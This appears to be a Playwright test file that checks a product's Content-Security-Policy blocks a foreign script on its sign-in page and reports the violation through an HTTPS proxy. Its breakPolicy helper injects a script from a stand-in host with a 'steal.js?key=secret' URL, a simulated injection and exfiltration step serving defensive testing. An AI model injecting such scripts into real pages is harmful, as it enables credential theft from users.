// The page policy stops what does not belong there, and the browser says so to the product, which takes it (what it logs of
// it: `server/http/policy-reports.db.test.ts`). Chromium reports over HTTPS alone, so a proxy with a certificate stands between.
import { generateKeyPairSync } from 'node:crypto';
import { request as forward, type IncomingHttpHeaders } from 'node:http';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, expect, inject, it } from 'vitest';
import { policyReportsPath } from '#contract/site.ts';
import { findChromium } from '#scripts/ensure-test-tools.ts';
import { createCertificate } from '#simulators/wechat-pay/platform-certificate.ts';

interface Delivery {
  type: string;
  status: number;
}

const executablePath = findChromium() ?? '';
let browser: Browser;
let proxy: Server;
let url: string;
const deliveries: Delivery[] = [];
/** Browsers that know only the older way see no `report-to`. */
let knowsReportTo = true;

beforeAll(async () => {
  proxy = openProxy(inject('product').url);
  await new Promise<void>((done) => proxy.listen(0, '127.0.0.1', done));
  url = `https://localhost:${(proxy.address() as AddressInfo).port}`;
  browser = await chromium.launch({
    executablePath,
    args: ['--no-sandbox', '--disable-gpu', '--ignore-certificate-errors', '--short-reporting-delay'],
  });
});

afterAll(async () => {
  await browser?.close();
  proxy?.closeAllConnections();
  proxy?.close();
});

function openProxy(target: string): Server {
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const key = privateKey.export({ type: 'pkcs8', format: 'pem' });
  return createServer({ key, cert: createCertificate(privateKey).pem }, (asked, answer) => {
    const { method, headers } = asked;
    const passed = forward(new URL(asked.url ?? '/', target), { method, headers }, (reply) => {
      const status = reply.statusCode ?? 0;
      if (asked.url === policyReportsPath) deliveries.push({ type: headers['content-type'] ?? '', status });
      answer.writeHead(status, knowsReportTo ? reply.headers : withoutReportTo(reply.headers));
      reply.pipe(answer);
    });
    passed.on('error', () => answer.destroy());
    asked.pipe(passed);
  });
}

const withoutReportTo = ({
  'reporting-endpoints': _,
  ...headers
}: IncomingHttpHeaders): IncomingHttpHeaders => ({
  ...headers,
  'content-security-policy': String(headers['content-security-policy']).replace('; report-to policy', ''),
});

/** A script of elsewhere is put into the sign-in page, as a hole in it would. */
async function breakPolicy(host: string): Promise<void> {
  const page = await browser.newPage();
  await page.goto(`${url}/login`);
  await page.evaluate((from) => {
    const script = document.createElement('script');
    script.src = `https://${from}/steal.js?key=secret`;
    document.head.append(script);
  }, host);
}

async function isTold(host: string, type: string): Promise<void> {
  deliveries.length = 0;
  await breakPolicy(host);
  await expect
    .poll(() => deliveries, { timeout: 60_000, interval: 250 })
    .toContainEqual({ type, status: 204 });
}

// The shell that tests usually drive has no service that delivers such reports; a whole Chromium has (CHROMIUM_PATH).
it.skipIf(executablePath.includes('headless-shell'))(
  'a script of elsewhere is stopped and told, as browsers report today',
  () => isTold('new.elsewhere.example', 'application/reports+json'),
);

it('a script of elsewhere is stopped and told, as older browsers report', async () => {
  knowsReportTo = false;
  await isTold('old.elsewhere.example', 'application/csp-report');
});
